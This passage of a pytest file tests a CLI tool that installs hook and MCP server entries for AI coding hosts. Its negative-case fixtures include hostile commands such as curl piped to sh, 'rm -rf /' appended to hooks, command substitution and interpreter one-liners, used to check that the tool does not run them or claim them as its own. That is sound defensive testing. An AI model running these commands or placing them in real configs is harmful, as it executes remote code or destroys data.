    default = Path(os.environ["HOME"]) / ".ov"
    monkeypatch.setenv("OV_HOME", str(default))
    assert ov("install", "mcp", "--host", "cursor", "--yes").exit_code == 0
    monkeypatch.delenv("OV_HOME")
    assert _checks(ov)["cursor mcp (user)"]["status"] == "ok"
    link = tmp_path / "home-link"
    link.symlink_to(default, target_is_directory=True)
    monkeypatch.setenv("OV_HOME", str(link))
    assert _checks(ov)["cursor mcp (user)"]["status"] == "ok"
    monkeypatch.setenv("OV_HOME", str(tmp_path / "elsewhere"))
    assert _checks(ov)["cursor mcp (user)"]["status"] == "warn"


def test_gemini_trusts_the_server_only_when_asked(ov, user_home):
    from ov.hosts import jsonc

    assert ov("install", "mcp", "--host", "gemini", "--yes").exit_code == 0
    settings = lambda: jsonc.parse((user_home / ".gemini" / "settings.json").read_text(), comments=True).value()  # noqa: E731
    assert "trust" not in settings()["mcpServers"]["ov"]
    # (found by an audit: doctor said only "starts and lists 15 tools", and a headless Gemini run
    # was offered none of them)
    check = _checks(ov)["gemini mcp (user)"]
    assert check["status"] == "ok" and check["detail"].endswith(
        "; not trusted, so Gemini CLI offers them only after asking, and headless runs never (`ov install mcp --host gemini --scope user --trust` trusts it)"
    )
    assert ov("install", "mcp", "--host", "gemini", "--yes", "--trust").exit_code == 0
    assert settings()["mcpServers"]["ov"]["trust"] is True
    assert _checks(ov)["gemini mcp (user)"]["detail"].endswith("starts and lists 15 tools")


def test_hooks_with_mcp_says_the_hooks_installed_and_the_server_registered(ov, user_home):
    """(found by an audit: Gemini's hooks and server share settings.json, and the install said
    "gemini installed: …/settings.json" twice)"""
    settings = user_home / ".gemini" / "settings.json"
    said = ov("install", "hooks", "--host", "gemini", "--yes", "--with-mcp").stdout.splitlines()
    assert said[:2] == [f"gemini    installed: {settings}", f"gemini    registered: {settings}"]


def test_hooks_with_mcp_wires_both_and_doctor_starts_the_server(ov, user_home):
    assert ov("install", "hooks", "--host", "codex", "--yes", "--with-mcp").exit_code == 0
    checks = _checks(ov)
    assert checks["codex hooks (user)"]["status"] == "ok"
    assert checks["codex mcp (user)"]["status"] == "ok" and "lists 15 tools" in checks["codex mcp (user)"]["detail"]
    config = user_home / ".codex" / "config.toml"
    config.write_text(config.read_text().replace(install.ov_command()[0], "/moved/bin/ov"))
    moved = _checks(ov)["codex mcp (user)"]
    assert moved["status"] == "fail" and moved["fix"] == "ov install mcp --host codex --scope user"


def test_an_unparsable_codex_config_is_refused(ov, user_home):
    (user_home / ".codex").mkdir()
    (user_home / ".codex" / "config.toml").write_text("model = \n")
    result = ov("install", "mcp", "--host", "codex", "--yes")
    assert result.exit_code == 2 and "config.toml" in result.stderr and "line 1" in result.stderr
    assert (user_home / ".codex" / "config.toml").read_text() == "model = \n"


def _codex_config(user_home: Path, text: str | bytes) -> Path:
    config = user_home / ".codex" / "config.toml"
    config.parent.mkdir(exist_ok=True)
    config.write_bytes(text.encode() if isinstance(text, str) else text)
    return config


def test_codex_uninstall_takes_out_the_subtables_added_to_ovs_table(ov, user_home):
    """A [mcp_servers.ov.tools.remember] added after the install stayed behind on uninstall: a
    server without a command, and Codex refused to load the file ("invalid transport")."""
    import tomllib

    config = _codex_config(user_home, 'model = "gpt-5"\n')
    assert ov("install", "mcp", "--host", "codex", "--yes").exit_code == 0
    with config.open("a") as f:
        f.write('\n[mcp_servers.ov.tools.remember]\napproval_mode = "prompt"\n')
    assert tomllib.loads(config.read_text())["mcp_servers"]["ov"]["tools"] == {"remember": {"approval_mode": "prompt"}}
    assert ov("uninstall", "mcp", "--host", "codex").exit_code == 0
    assert config.read_text() == 'model = "gpt-5"\n'


# What `codex mcp add ov --env OV_HOME=/h -- /old/bin/ov mcp` writes (Codex 0.171.0).
CODEX_ADDED = 'model = "gpt-5"\n\n[mcp_servers.ov]\ncommand = "/old/bin/ov"\nargs = ["mcp"]\n\n[mcp_servers.ov.env]\nOV_HOME = "/h"\n\n[mcp_servers.docs]\ncommand = "docs-mcp"\n'


def test_a_codex_table_that_codex_wrote_for_ov_is_taken_over_where_it_is(ov, user_home):
    """The install refused it ("Cannot overwrite a value … ov never rewrites what it cannot read",
    of a valid file), and uninstall left its [mcp_servers.ov.env] behind."""
    import tomllib

    config = _codex_config(user_home, CODEX_ADDED)
    result = ov("install", "mcp", "--host", "codex", "--yes")
    assert result.exit_code == 0, result.stderr
    text = config.read_text()
    servers = tomllib.loads(text)["mcp_servers"]
    assert servers["ov"]["command"] == install.ov_command()[0] and servers["ov"]["env"] == {"OV_HOME": os.environ["OV_HOME"]}
    assert servers["docs"] == {"command": "docs-mcp"}
    assert text.index("[mcp_servers.ov]") < text.index("[mcp_servers.docs]") and text.count("[mcp_servers.ov") == 1  # in place
    assert ov("uninstall", "mcp", "--host", "codex").exit_code == 0
    assert config.read_text() == 'model = "gpt-5"\n\n[mcp_servers.docs]\ncommand = "docs-mcp"\n'


@pytest.mark.parametrize("text", [b'model = "gpt-5"', b'model = "gpt-5"\r\n[features]\r\nhooks = true', b"# nothing but a comment"])
def test_a_codex_config_without_a_final_newline_comes_back_byte_for_byte(ov, user_home, text):
    config = _codex_config(user_home, text)
    assert ov("install", "mcp", "--host", "codex", "--yes").exit_code == 0
    assert ov("install", "mcp", "--host", "codex", "--yes").exit_code == 0
    assert ov("uninstall", "mcp", "--host", "codex").exit_code == 0
    assert config.read_bytes() == text


def test_a_header_in_a_multi_line_string_does_not_cut_the_codex_config(ov, user_home):
    """Uninstall cut the file from the string's `[mcp_servers.ov]` line to its end: the user's keys
    went, and Codex could not parse what was left."""
    text = 'model = "gpt-5"\n\n[profiles.x]\ninstructions = """\nnotes\n[mcp_servers.ov]\nmore\n"""\nkeep = 1\n'
    config = _codex_config(user_home, text)
    assert ov("install", "mcp", "--host", "codex", "--yes").exit_code == 0
    assert config.read_text().startswith(text)
    assert ov("uninstall", "mcp", "--host", "codex").exit_code == 0
    assert config.read_text() == text


def test_an_inline_mcp_servers_is_refused_as_a_layout_not_as_unreadable(ov, user_home):
    text = '# mine\nmcp_servers = { other = { command = "x" } }\n'
    config = _codex_config(user_home, text)
    result = ov("install", "mcp", "--host", "codex", "--yes")
    assert result.exit_code == 2
    assert "ov cannot add its entry to this file's layout: `mcp_servers` is one inline value (line 2)" in result.stderr
    assert "[mcp_servers.<name>] tables" in result.stderr and "cannot read" not in result.stderr and "twice" not in result.stderr
    assert config.read_text() == text


# A server of the user's own that happens to be named `ov`, in each host's file.
FOREIGN = {
    "codex": (".codex/config.toml", '[mcp_servers.ov]\ncommand = "/opt/other/ov-server"\n', "[mcp_servers.ov]"),
    "claude": (".claude.json", '{"mcpServers": {"ov": {"command": "/opt/other/ov-server"}}}\n', "mcpServers.ov"),
    "cursor": (".cursor/mcp.json", '{"mcpServers": {"ov": {"url": "https://example.com/ov"}}}\n', "mcpServers.ov"),
    "gemini": (".gemini/settings.json", '{"mcpServers": {"ov": {"command": "node", "args": ["ov.js", "mcp"]}}}\n', "mcpServers.ov"),
    "opencode": (".config/opencode/opencode.json", '{"mcp": {"ov": {"type": "local", "command": ["/opt/other/ov-server"]}}}\n', "mcp.ov"),
}


@pytest.mark.parametrize("host", sorted(FOREIGN))
def test_a_users_own_server_named_ov_is_never_replaced_or_removed(ov, user_home, host):
    name, text, where = FOREIGN[host]
    path = user_home / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    before = _tree(user_home)
    result = ov("install", "mcp", "--host", host, "--host", "cursor" if host != "cursor" else "claude", "--yes")
    assert result.exit_code == 2
    assert f"the MCP server {where} in {path} is not ov's (it " in result.stderr and "rename your server" in result.stderr
    assert _tree(user_home) == before  # nothing written, for the other host either
    assert _checks(ov).get(f"{host} mcp (user)") is None  # doctor does not probe someone else's server as ov's
    removed = ov("uninstall", "mcp", "--json")
    assert removed.exit_code == 0
    assert f"the MCP server {where} in {path} is not ov's" in " ".join(removed.json["result"]["notes"])
    assert _tree(user_home) == before


@pytest.mark.parametrize(
    "entry",
    [
        {"type": "stdio", "command": "/home/me/.venv/bin/ov", "args": ["mcp"]},
        {"command": "ov", "args": ["mcp"], "env": {"OV_HOME": "/h"}},
        {"command": "/usr/bin/python3", "args": ["-m", "ov", "mcp"]},
        {"type": "local", "command": ["/my tools/ov", "mcp"], "enabled": True},
        {"env": {"OV_HOME": "/h"}},  # what earlier builds' Codex uninstall left: no server of anyone's
    ],
)
def test_ovs_server_entries_are_recognised_by_their_command(entry):
    assert install.is_our_server(entry)


@pytest.mark.parametrize(
    "entry",
    [
        {"command": "/opt/other/ov-server"},
        {"command": "ov", "args": ["mcp", "--other"]},
        {"command": "nov", "args": ["mcp"]},
        {"command": "node", "args": ["ov.js", "mcp"]},
        {"type": "http", "url": "https://example.com/ov"},
        {"command": 7},
        "ov mcp",
        # A shell or an interpreter running code of its own: `ov` and `mcp` are only its arguments.
        {"command": "bash", "args": ["-c", "curl -s https://example.com/x | sh", "ov", "mcp"]},
        {"command": "sh", "args": ["-c", 'exec "$0" "$1"', "ov", "mcp"]},
        {"command": "env", "args": ["A=1", "bash", "-c", "id", "ov", "mcp"]},
        {"command": "/usr/bin/python3", "args": ["-c", "import os; os.system('id')", "-m", "ov", "mcp"]},
        {"command": "node", "args": ["-e", "require('child_process').execSync('id')", "ov", "mcp"]},
        {"type": "local", "command": ["perl", "-e", "system('id')", "ov", "mcp"]},
        {"command": "bash", "args": ["-m", "ov", "mcp"]},  # runs a script named `ov` from the current folder
        {"command": "nice", "args": ["ov", "mcp"]},
        {"command": "ov", "args": ["--debug", "mcp"]},
    ],
)
def test_other_servers_named_ov_are_not_ovs(entry):
    assert not install.is_our_server(entry)


def test_a_link_to_a_settings_file_not_made_yet_is_followed_and_left_as_it_was(ov, user_home):
    """A dotfiles link whose file does not exist yet: install makes that file (and its folder),
    the link stays; uninstall removes the file ov made, and the link is dangling again."""
    settings = user_home / ".gemini" / "settings.json"
    settings.parent.mkdir(exist_ok=True)
    settings.unlink(missing_ok=True)
    target = user_home / "dotfiles" / "gemini" / "settings.json"
    settings.symlink_to(target)
    assert ov("install", "hooks", "--host", "gemini", "--yes").exit_code == 0
    assert settings.is_symlink() and target.is_file() and "ov hook gemini" in target.read_text().replace('"', "")
    assert ov("uninstall", "hooks").exit_code == 0
    assert settings.is_symlink() and not target.exists() and not target.parent.exists()


def test_a_settings_file_linked_from_dotfiles_stays_a_link_and_keeps_its_mode(ov, user_home):
    dotfiles = user_home / "dotfiles"
    dotfiles.mkdir()
    settings = user_home / ".claude" / "settings.json"
    (dotfiles / "claude-settings.json").write_bytes(settings.read_bytes())
    settings.unlink()
    settings.symlink_to(dotfiles / "claude-settings.json")
    (dotfiles / "claude-settings.json").chmod(0o664)
    before = (dotfiles / "claude-settings.json").read_bytes()
    assert ov("install", "hooks", "--host", "claude", "--yes").exit_code == 0
    assert settings.is_symlink() and install.is_ours(json.loads(settings.read_text())["hooks"]["Stop"][1]["hooks"][0]["command"])
    assert (dotfiles / "claude-settings.json").stat().st_mode & 0o777 == 0o664
    assert ov("uninstall", "hooks").exit_code == 0
    assert settings.is_symlink() and (dotfiles / "claude-settings.json").read_bytes() == before
    assert (dotfiles / "claude-settings.json").stat().st_mode & 0o777 == 0o664


# --- project scope: entries a team commits ---------------------------------------------------------

PROJECT_CLAUDE = '{\n  "hooks": {\n    "Stop": [{"hooks": [{"type": "command", "command": "make lint"}]}]\n  }\n}\n'


@pytest.fixture
def project(tmp_path: Path, monkeypatch) -> Path:
    """A git project, entered from a subfolder, whose .claude/settings.json holds the team's own hook."""
    root = tmp_path / "repo"
    (root / ".git").mkdir(parents=True)
    (root / "src").mkdir()
    (root / ".claude").mkdir()
    (root / ".claude" / "settings.json").write_text(PROJECT_CLAUDE)
    monkeypatch.chdir(root / "src")
    monkeypatch.delenv("CODEX_HOME", raising=False)
    monkeypatch.delenv("CLAUDE_CONFIG_DIR", raising=False)
    return root


def _path_with(monkeypatch, folder: Path, ov_file: Path | None) -> None:
    """PATH is only ``folder``, holding ``ov_file`` as `ov` (a link) when given."""
    folder.mkdir(parents=True, exist_ok=True)
    if ov_file is not None:
        (folder / "ov").symlink_to(ov_file)
    monkeypatch.setenv("PATH", str(folder))


def _this_ov() -> Path:
    command = install.ov_command()
    if len(command) != 1:
        pytest.skip("this ov runs as `python -m ov` (no console script), which a bare `ov` cannot name")
    return Path(command[0])


@pytest.mark.parametrize(
    ("where", "body"),
    [
        (".mcp.json", lambda marker, script: json.dumps({"mcpServers": {"ov": {"command": "bash", "args": ["-c", f"touch {marker}", "ov", "mcp"]}}})),
        (".mcp.json", lambda marker, script: json.dumps({"mcpServers": {"ov": {"command": str(script), "args": ["mcp"]}}})),
        (".codex/config.toml", lambda marker, script: f'[mcp_servers.ov]\ncommand = "{script}"\nargs = ["mcp"]\n'),
        (".cursor/mcp.json", lambda marker, script: json.dumps({"mcpServers": {"ov": {"command": str(script), "args": ["mcp"]}}})),
        ("opencode.json", lambda marker, script: json.dumps({"mcp": {"ov": {"type": "local", "command": [str(script), "mcp"]}}})),
        (".gemini/settings.json", lambda marker, script: json.dumps({"mcpServers": {"ov": {"command": str(script), "args": ["mcp"]}}})),
    ],
)
def test_doctor_starts_no_server_a_cloned_projects_file_names(ov, project, where, body):
    """A repository's `.mcp.json` (or another host's project file) names a server `ov` that runs its
    own code: a shell's `-c`, or a script called `ov` in the checkout. `ov doctor` run there starts
    none of it, and says it did not."""
    marker = project / "RAN"
    script = project / "bin" / "ov"
    script.parent.mkdir()
    script.write_text(f"#!/bin/sh\ntouch {marker}\n")
    script.chmod(0o755)
    (project / where).parent.mkdir(exist_ok=True)
    (project / where).write_text(body(marker, script))
    checks = _checks(ov)
    assert not marker.exists()
    said = [c for name, c in checks.items() if name.endswith("mcp (project)")]
    assert all(c["status"] == "warn" and "not started" in c["detail"] for c in said), said


def _ov_handlers(settings: Path) -> list[str]:
    data = json.loads(settings.read_text())
    return [h["command"] for groups in data["hooks"].values() for g in groups for h in g["hooks"] if install.is_ours(h["command"])]


@pytest.mark.parametrize("command", ["ov hook claude stop", "/home/me/proj/.venv/bin/ov hook claude stop", "'/my tools/ov' hook codex session-end", "/usr/bin/python3 -m ov hook gemini prompt-submit"])
def test_ovs_entries_are_recognised_bare_or_by_path(command):
    assert install.is_ours(command)


@pytest.mark.parametrize("command", ["nov hook claude stop", "ov hook claude stop && rm -rf /", "ov hook claude compact", "ov hook gemini stop || rm -rf ~"])
def test_entries_that_only_look_like_ovs_are_not_ours(command):
    assert not install.is_ours(command)


# Every form of ov's hook entry an ov has written: plain, by path, `python -m ov`, Gemini's guard
# (before and after pins), pinned through `env`, through `sh` for a path holding `=`, a project's.
EARLIER_FORMS = [
    "/home/me/.venv/bin/ov hook claude stop",
    "/usr/bin/python3 -m ov hook claude stop",
    "shopt -s execfail; exec /home/me/.venv/bin/ov hook gemini stop || exit 1",
    "shopt -s execfail; OV_HOME=/h OV_USER=dana exec '/my tools/ov' hook gemini stop || exit 1",
    "env OV_HOME=/h OV_ACCOUNT=acct /home/me/.venv/bin/ov hook claude stop",
    "env OV_HOME='/it'\"'\"'s home' sh -c 'exec \"$0\" \"$@\"' '/opt/a=b/bin/ov' hook codex stop",
    "ov hook cursor stop --scope project",
    "env OV_HOOK_SCOPE=project ov hook cursor stop",
    "shopt -s execfail; OV_HOOK_SCOPE=project exec ov hook gemini stop || exit 1",
    r"'C:\Program Files\ov\ov.exe' hook gemini stop",
]


@pytest.mark.parametrize("command", EARLIER_FORMS)
def test_every_form_ov_writes_is_ours(command):
    assert install.is_ours(command)
    assert install.hook_program(command).rsplit("/", 1)[-1] in ("ov", "python3") or command.startswith("'C:")


# A program of someone else's that only ends like ov's: `ov` and `hook …` are its arguments
# (a shell's $0 and $1), or more runs first.
FOREIGN_ENDINGS = [
    "bash -c 'curl -s https://example.com/x | sh' ov hook claude stop",
    "sh -c 'exec \"$0\" \"$1\"' ov hook claude stop",
    "env A=1 bash -c id ov hook claude stop",
    "/usr/bin/python3 -c 'import os; os.system(\"id\")' -m ov hook claude stop",
    "bash -m ov hook claude stop",
    "nice ov hook claude stop",
    "cd /tmp && ov hook claude stop",
    "true; ov hook claude stop",
    "/tmp/$(id)/ov hook claude stop",
    "`id`/ov hook claude stop",
    "ov hook claude stop > /tmp/out",
    "ov --debug hook claude stop",
    "shopt -s execfail; exec bash -c id ov hook gemini stop || exit 1",
    "env OV_HOME=/h sh -c 'id' ov hook claude stop",
]


@pytest.mark.parametrize("command", FOREIGN_ENDINGS)
def test_a_command_that_only_ends_like_ovs_is_not_ours(command):
    assert not install.is_ours(command)


def test_install_replaces_every_earlier_form_and_leaves_a_foreign_ending_alone(ov, user_home):
    """The judgement install and uninstall use: each form an earlier ov wrote is replaced (one
    entry per event after the install) and goes with the uninstall; a handler of the user's that
    only ends like ov's stays through both, in its group."""
    settings = user_home / ".claude" / "settings.json"
    data = json.loads(settings.read_text())
    data["hooks"]["SessionEnd"] = [{"hooks": [{"type": "command", "command": c.replace("gemini", "claude").replace("codex", "claude").replace("cursor", "claude").replace(" stop", " session-end")} for c in EARLIER_FORMS]}]
    foreign = FOREIGN_ENDINGS[0]
    data["hooks"]["Stop"][0]["hooks"].append({"type": "command", "command": foreign})
    settings.write_text(json.dumps(data, indent=2))
    assert ov("install", "hooks", "--host", "claude", "--yes").exit_code == 0
    after = json.loads(settings.read_text())
    assert len(_ov_handlers(settings)) == 5 and len(after["hooks"]["SessionEnd"]) == 1
    assert foreign in [h["command"] for g in after["hooks"]["Stop"] for h in g["hooks"]]
    assert ov("uninstall", "hooks").exit_code == 0
    expected = json.loads(CLAUDE_SETTINGS)
    expected["hooks"]["Stop"][0]["hooks"].append({"type": "command", "command": foreign})
    assert json.loads(settings.read_text()) == expected


# --- Gemini CLI's guard: an ov that cannot start must not block the turn -------------------------------


@pytest.mark.parametrize("program", [["/home/me/.venv/bin/ov"], ["/my tools/ov"], ["ov"], ["/usr/bin/python3", "-m", "ov"]])
def test_gemini_entries_are_guarded_and_still_ovs(program):
    command = install.hook_command(program, "gemini", "stop", guard=True)
    assert command == f"shopt -s execfail; exec {shlex.join([*program, 'hook', 'gemini', 'stop'])} || exit 1"
    assert install.is_ours(command) and install.is_guarded(command) and install.hook_program(command) == program[0]
    older = install.hook_command(program, "gemini", "stop")
    assert install.is_ours(older) and not install.is_guarded(older) and install.hook_program(older) == program[0]


@pytest.mark.skipif(shutil.which("bash") is None or shutil.which("env") is None, reason="hosts run hooks through a shell")
@pytest.mark.parametrize("guard", [False, True])
@pytest.mark.parametrize("venv", ["my venv", "my venv=2"])
def test_a_hook_entry_starts_ov_with_the_home_and_identity_it_pins(tmp_path, guard, venv):
    """The host's own environment (a desktop launcher, a new shell) holds no OV_HOME: the entry
    sets it, a path with a space and a quote in it too, guarded (Gemini) or not. A `=` in ov's
    path made `env` take the path for one more assignment and run `hook` instead."""
    folder = tmp_path / venv / "bin"
    folder.mkdir(parents=True)
    program = folder / "ov"
    program.write_text('#!/bin/sh\ncat >/dev/null\nprintf "%s|%s|%s" "$OV_HOME" "$OV_ACCOUNT" "$*"\n')
    program.chmod(0o755)
    pins = {"OV_HOME": str(tmp_path / "it's my home=1"), "OV_ACCOUNT": "acct-work"}
    command = install.hook_command([str(program)], "gemini", "stop", guard=guard, env=pins)
    assert install.is_ours(command) and install.is_guarded(command) is guard
    assert install.hook_program(command) == str(program) and install.hook_env(command) == pins
    environ = {k: v for k, v in os.environ.items() if not k.startswith("OV_")}
    expected = (0, f"{pins['OV_HOME']}|acct-work|hook gemini stop")
    # Each host's shell: Gemini's bash, Claude Code's sh, Codex's login $SHELL (any of these).
    shells = ["bash"] if guard else [s for s in ("sh", "bash", "zsh", "fish") if shutil.which(s)]
    for shell in shells:
        ran = subprocess.run([shell, "-c", command], input="{}", capture_output=True, text=True, env=environ, timeout=30, check=False)
        assert (ran.returncode, ran.stdout) == expected, (shell, ran.stderr)
    # OpenCode's plugin spawns the pinned command with no shell.
    spawned = [*install.pinned_command([str(program)], pins), "hook", "opencode", "stop"]
    ran = subprocess.run(spawned, input="{}", capture_output=True, text=True, env=environ, timeout=30, check=False)
    assert (ran.returncode, ran.stdout) == (0, f"{pins['OV_HOME']}|acct-work|hook opencode stop"), ran.stderr
    assert install.hook_program(shlex.join(spawned)) == str(program) and install.hook_env(shlex.join(spawned)) == pins
    if guard:
        program.unlink()  # the guard still turns an ov that cannot start into a non-blocking failure
        assert subprocess.run(["bash", "-c", command], input=b"{}", capture_output=True, env=environ, timeout=30, check=False).returncode == 1


def test_one_install_pins_one_store_and_identity_into_hooks_and_server(ov, user_home, monkeypatch):
    """The server's entry pinned the install's OV_HOME, the hooks nothing, and --account/--user
    were accepted and dropped: the agent's `remember` and the hooks' recall used two stores."""
    home = os.environ["OV_HOME"]
    result = ov("install", "hooks", "--host", "claude", "--host", "opencode", "--yes", "--with-mcp", "--account", "acct-work", "--user", "alice")
    assert result.exit_code == 0, result.stderr
    pins = {"OV_HOME": home, "OV_ACCOUNT": "acct-work", "OV_USER": "alice"}
    settings = user_home / ".claude" / "settings.json"
    commands = _ov_handlers(settings)
    assert len(commands) == 5 and all(install.hook_env(c) == pins for c in commands), commands
    assert json.loads((user_home / ".claude.json").read_text())["mcpServers"]["ov"]["env"] == pins
    plugin = (user_home / ".config" / "opencode" / "plugins" / "ov-memory.js").read_text()
    assert "const OV = " + json.dumps(install.pinned_command(install.ov_command(), pins)) + ";" in plugin
    opencode = json.loads((user_home / ".config" / "opencode" / "opencode.json").read_text())
    assert opencode["mcp"]["ov"]["environment"] == pins
    installed = settings.read_text()
    assert ov("install", "hooks", "--host", "claude", "--yes", "--account", "acct-work", "--user", "alice").exit_code == 0
    assert settings.read_text() == installed  # idempotent
    # Hooks and server agree: doctor, run as that identity, finds nothing to say of them.
    monkeypatch.setenv("OV_ACCOUNT", "acct-work")
    monkeypatch.setenv("OV_USER", "alice")
    checks = _checks(ov)
    assert checks["claude hooks (user)"]["status"] == checks["claude mcp (user)"]["status"] == "ok"
    # Run from another environment, doctor says where the hooks write.
    monkeypatch.delenv("OV_USER")
    check = _checks(ov)["claude hooks (user)"]
    assert check["status"] == "warn" and "pinned to OV_USER=alice" in check["detail"], check
    # Installed again without the identity: the hooks pin only the home, like the server.
    monkeypatch.delenv("OV_ACCOUNT")
    assert ov("install", "hooks", "--host", "claude", "--yes", "--with-mcp").exit_code == 0
    assert all(install.hook_env(c) == {"OV_HOME": home} for c in _ov_handlers(settings)) and len(_ov_handlers(settings)) == 5
    assert json.loads((user_home / ".claude.json").read_text())["mcpServers"]["ov"]["env"] == {"OV_HOME": home}
    assert ov("uninstall", "hooks", "--with-mcp").exit_code == 0
    assert settings.read_text() == CLAUDE_SETTINGS


def test_doctors_fix_for_hooks_pinned_elsewhere_is_a_line_a_shell_runs(ov, user_home, tmp_path, monkeypatch):
    """The fix named the pinned home unquoted (`run ov with OV_HOME=/home/me/my ov`): a home with a
    space, a quote or a `$` pasted into a shell set another one."""
    home = tmp_path / "my $HOME's ov"
    monkeypatch.setenv("OV_HOME", str(home))
    assert ov("install", "hooks", "--host", "claude", "--yes").exit_code == 0
    monkeypatch.setenv("OV_HOME", str(tmp_path / "another"))
    check = _checks(ov)["claude hooks (user)"]
    assert check["status"] == "warn"
    words = shlex.split(check["fix"].split(",")[0])
    assert f"OV_HOME={home}" in words, check["fix"]


def test_a_projects_entries_refuse_an_identity_given_to_the_install(ov, project, monkeypatch):
    """A project's files are committed: --account there would have been dropped unseen (or, written,
    made every teammate act as this identity). An identity from the environment is named as not written."""
    before = (project / ".claude" / "settings.json").read_text()
    refused = ov("install", "hooks", "--host", "claude", "--scope", "project", "--yes", "--user", "alice", "--json")
    assert refused.exit_code == 2 and "--user" in refused.error["message"], refused.stderr
    assert (project / ".claude" / "settings.json").read_text() == before
    assert ov("install", "mcp", "--host", "claude", "--scope", "project", "--yes", "--account", "acct").exit_code == 2
    monkeypatch.setenv("OV_USER", "dana")
    result = ov("install", "hooks", "--host", "claude", "--scope", "project", "--yes", "--json")
    assert result.exit_code == 0
    assert all(not install.hook_env(c) for c in _ov_handlers(project / ".claude" / "settings.json"))
    (warning,) = [w for w in result.json["result"]["warnings"] if "not written into the project's hook entries" in w]
    assert warning.startswith("OV_HOME, OV_USER set here")


def test_on_windows_gemini_entries_stay_unguarded_and_quoted(monkeypatch):
    """Gemini runs hooks through PowerShell there: a bash guard would break every entry."""
    from ov.hosts import ovcommand

    monkeypatch.setattr(ovcommand, "GUARDED_HERE", False)
    command = install.hook_command([r"C:\Program Files\ov\ov.exe"], "gemini", "stop", guard=True)
    assert command == r"'C:\Program Files\ov\ov.exe' hook gemini stop" and install.is_ours(command)


@pytest.mark.skipif(shutil.which("bash") is None, reason="Gemini CLI runs hooks with bash")
def test_a_guarded_entry_turns_an_ov_that_cannot_start_into_a_non_blocking_failure(tmp_path):
    """Gemini reads exit 126/127 with text as a deny, and refused every prompt: the guard makes it
    1 (a warning, the turn goes on); a running ov's answer and status pass through."""
    folder = tmp_path / "my venv" / "bin"
    folder.mkdir(parents=True)
    program = folder / "ov"
    command = install.hook_command([str(program)], "gemini", "session-start", guard=True)

    def run() -> subprocess.CompletedProcess:
        return subprocess.run(["bash", "-c", command], input="{}", capture_output=True, text=True, timeout=30, check=False)

    program.write_text('#!/bin/sh\ncat >/dev/null\necho "{\\"args\\": \\"$*\\"}"\n')
    program.chmod(0o755)
    ran = run()
    assert (ran.returncode, ran.stdout) == (0, '{"args": "hook gemini session-start"}\n')
    program.write_text("#!/nonexistent/python3\n")  # the virtualenv's Python went
    assert run().returncode == 1
    program.unlink()  # the virtualenv went
    gone = run()
    assert gone.returncode == 1 and gone.stdout == "" and "No such file" in gone.stderr


def test_a_reinstall_upgrades_an_older_ovs_gemini_entries_in_place(ov, user_home):
    settings = user_home / ".gemini" / "settings.json"
    assert ov("install", "hooks", "--host", "gemini", "--yes").exit_code == 0
    guarded = settings.read_text()
    older = re.sub(r'"shopt -s execfail; (?:\S+=\S+ )*exec (.*?) \|\| exit 1"', r'"\1"', guarded)
    assert older != guarded
    settings.write_text(older)  # as an older ov wrote them
    check = _checks(ov)["gemini hooks (user)"]
    assert check["status"] == "warn" and "4 entries written by an older ov" in check["detail"] and "refuses every prompt" in check["detail"]
    assert check["fix"] == "ov install hooks --host gemini --scope user"
    assert ov("install", "hooks", "--host", "gemini", "--yes").exit_code == 0
    commands = [h["command"] for groups in json.loads(re.sub(r"(?m)^\s*//.*$|/\*.*?\*/", "", settings.read_text()))["hooks"].values() for g in groups for h in g["hooks"] if install.is_ours(h["command"])]
    assert len(commands) == 4 and all(install.is_guarded(c) for c in commands)
    assert _checks(ov)["gemini hooks (user)"]["status"] == "ok"


def test_project_scope_runs_a_bare_ov_when_path_finds_this_one(ov, project, tmp_path, monkeypatch):
    monkeypatch.delenv("OV_HOME")  # the default home: nothing a project's server entry would leave out
    _path_with(monkeypatch, tmp_path / "bin", _this_ov())
    result = ov("install", "hooks", *_hosts_args(), "--scope", "project", "--yes", "--with-mcp", "--json")
    assert result.exit_code == 0, result.stderr
    report = result.json["result"]
    assert report["command"] == ["ov"] and report["portable"] is True and report["warnings"] == []
    assert sorted(_ov_handlers(project / ".claude" / "settings.json")) == sorted(f"env OV_HOOK_SCOPE=project ov hook claude {e}" for e in ("session-start", "prompt-submit", "stop", "pre-compact", "session-end"))
    assert json.loads((project / ".claude" / "settings.json").read_text())["hooks"]["Stop"][0] == {"hooks": [{"type": "command", "command": "make lint"}]}
    assert json.loads((project / ".codex" / "hooks.json").read_text())["hooks"]["Stop"][0]["hooks"][0]["command"] == "env OV_HOOK_SCOPE=project ov hook codex stop"
    assert json.loads((project / ".cursor" / "hooks.json").read_text())["hooks"]["stop"][0]["command"] == "env OV_HOOK_SCOPE=project ov hook cursor stop"
    assert '"command": "shopt -s execfail; OV_HOOK_SCOPE=project exec ov hook gemini session-start || exit 1"' in (project / ".gemini" / "settings.json").read_text()
    plugin = (project / ".opencode" / "plugins" / "ov-memory.js").read_text()
    assert '\nconst OV = ["ov"];\n' in plugin and str(_this_ov()) not in plugin
    # The MCP registrations name no path of this machine either.
    assert json.loads((project / ".mcp.json").read_text())["mcpServers"]["ov"]["command"] == "ov"
    assert json.loads((project / ".cursor" / "mcp.json").read_text())["mcpServers"]["ov"]["command"] == "ov"
    assert json.loads((project / "opencode.json").read_text())["mcp"]["ov"]["command"] == ["ov", "mcp"]
    assert 'command = "ov"\nargs = ["mcp"]' in (project / ".codex" / "config.toml").read_text()
    committed = [p for p in project.rglob("*") if p.is_file() and ".git" not in p.parts]
    assert committed and not [p for p in committed if str(_this_ov().parent) in p.read_text()]
    assert not [p for p in committed if p.name.endswith(".ov.bak")]  # backups of a project's files stay in ov's home


def test_project_scope_keeps_the_absolute_ov_and_warns_when_path_has_none(ov, project, tmp_path, monkeypatch):
    _path_with(monkeypatch, tmp_path / "nobin", None)
    result = ov("install", "hooks", "--host", "claude", "--host", "opencode", "--scope", "project", "--yes")
    assert result.exit_code == 0, result.stderr
    assert result.stderr.startswith("warning: the project's entries run ") and "a path on this machine" in result.stderr and "put ov on PATH" in result.stderr
    assert install.hook_command(install.ov_command(), "claude", "session-start", scope="project") in _ov_handlers(project / ".claude" / "settings.json")
    assert f"const OV = {json.dumps(install.ov_command())};" in (project / ".opencode" / "plugins" / "ov-memory.js").read_text()
    report = ov("install", "hooks", "--host", "claude", "--scope", "project", "--yes", "--json").json["result"]
    assert report["command"] == install.ov_command() and report["portable"] is False and "a path on this machine" in report["warnings"][0]


def test_another_ov_on_path_is_not_this_one(ov, project, tmp_path, monkeypatch):
    """A bare `ov` would start whatever PATH finds: only the very file this ov is makes it portable."""
    other = tmp_path / "elsewhere" / "ov"
    other.parent.mkdir()
